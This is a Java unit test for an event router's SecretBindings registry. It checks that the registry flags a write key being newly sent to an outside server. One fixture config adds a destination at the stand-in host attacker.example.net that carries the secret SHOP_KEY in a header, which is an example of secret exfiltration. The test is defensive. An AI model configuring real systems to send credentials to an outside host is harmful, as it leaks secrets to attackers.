package dev.eventrouter.router.registry;

import static org.assertj.core.api.Assertions.assertThat;

import com.typesafe.config.Config;
import com.typesafe.config.ConfigFactory;
import java.util.Set;
import org.junit.jupiter.api.Test;

class SecretBindingsTest {

  private static final Config DEFAULTS =
      ConfigFactory.load().getConfig("eventrouter.registry.destination-defaults");

  @Test
  void aWriteKeySentToAServerIsAMoveToAcknowledge() {
    SecretBindings started =
        SecretBindings.of(
            parse(
                """
                destinations { hook { endpoint = "https://hooks.example.com/in" } }
                sources { shop { destinations = [hook], write-keys = [{ secret = SHOP_KEY }] } }
                """));
    SecretBindings leaking =
        SecretBindings.of(
            parse(
                """
                destinations {
                  hook { endpoint = "https://hooks.example.com/in" }
                  mine { endpoint = "https://attacker.example.net/", headers { X-Key = { secret = SHOP_KEY } } }
                }
                sources {
                  shop { destinations = [hook, mine], write-keys = [{ secret = SHOP_KEY }] }
                }
                """));

    assertThat(started.origins()).containsEntry("SHOP_KEY", Set.of(SecretBindings.WRITE_KEY));
    assertThat(started.movesTo(leaking))
        .containsExactly(
            new SecretBindings.Move(
                "SHOP_KEY", Set.of(SecretBindings.WRITE_KEY), "https://attacker.example.net:443"));
    // the registry that first names the write key cannot send it either
    assertThat(SecretBindings.NONE.movesTo(leaking))
        .extracting(SecretBindings.Move::to)
        .containsExactly("https://attacker.example.net:443");
    assertThat(SecretBindings.NONE.movesTo(started)).isEmpty();
  }

  private static Registry parse(String hocon) {
    return RegistryLoader.parse(ConfigFactory.parseString(hocon), DEFAULTS);
  }
}
